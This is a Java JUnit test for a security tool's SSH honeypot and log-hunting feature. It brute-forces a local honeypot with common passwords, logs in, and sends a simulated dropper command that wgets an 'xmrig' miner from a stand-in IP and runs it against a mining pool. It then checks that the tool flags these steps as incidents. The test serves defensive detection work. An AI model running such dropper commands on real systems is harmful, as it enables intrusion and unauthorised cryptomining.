package dev.bulwark.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.bulwark.cli.usecase.HoneypotService;
import dev.bulwark.core.testing.Tools;
import dev.bulwark.deception.Honeypot;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The honeypot and the log engine meet only through the event file: a real OpenSSH client brute
 * forces the SSH honeypot, logs in, runs a dropper and uploads a file; {@code bulwark logs hunt} on
 * the events then reports the brute force followed by a log-in as an incident.
 */
class HoneypotHuntTest {
  private static int ssh(int port, String password, String command, String stdin, String tool)
      throws Exception {
    List<String> cmd =
        new ArrayList<>(
            List.of(
                "sshpass",
                "-p",
                password,
                tool,
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "PreferredAuthentications=password",
                "-o",
                "PubkeyAuthentication=no",
                "-o",
                "NumberOfPasswordPrompts=1",
                "-o",
                "LogLevel=ERROR",
                tool.equals("ssh") ? "-p" : "-P",
                Integer.toString(port),
                "root@127.0.0.1"));
    if (command != null) {
      cmd.add(command);
    }
    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
    try (var in = p.getOutputStream()) {
      in.write((stdin == null ? "" : stdin).getBytes(StandardCharsets.UTF_8));
    }
    p.getInputStream().readAllBytes();
    assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
    return p.exitValue();
  }

  @Test
  void sshAttackOnTheHoneypot_logsHunt_yieldsAnIncident(@TempDir Path dir) throws Exception {
    assumeTrue(
        Tools.onPath("ssh").isPresent() && Tools.onPath("sshpass").isPresent(),
        Tools.missing("ssh or sshpass", "openssh-client sshpass"));
    Path events = dir.resolve("events.json");
    try (Honeypot h =
        HoneypotService.start(
            HoneypotService.config(
                null,
                new HoneypotService.Overrides(
                    dir.resolve("data"), "127.0.0.1", 0, -1, -1, events)))) {
      int port = h.sshPort();
      for (String wrong : List.of("123456", "password", "admin")) {
        assertThat(ssh(port, wrong, "id", null, "ssh")).isNotZero();
      }
      assertThat(
              ssh(
                  port,
                  "toor",
                  "uname -a; cd /tmp; wget http://203.0.113.9/xmrig -O xmrig; ./xmrig -o stratum+tcp://pool.example:3333",
                  null,
                  "ssh"))
          .isNotEqualTo(255);
      Path payload = dir.resolve("bot.sh");
      Files.writeString(payload, "#!/bin/sh\n");
      assertThat(ssh(port, "toor", null, "put " + payload + " /tmp/bot.sh\n", "sftp")).isZero();
    }
    Cli.Result r = Cli.run("logs", "hunt", events.toString(), "--no-progress", "--format", "json");
    assertThat(r.out())
        .as(r.err())
        .contains("Honeypot Log-in After a Brute Force")
        .contains("Brute Force Against a Honeypot")
        .contains("Tool Download Attempted on a Honeypot")
        .contains("Miner or Botnet Command on a Honeypot")
        .contains("incident");
  }
}
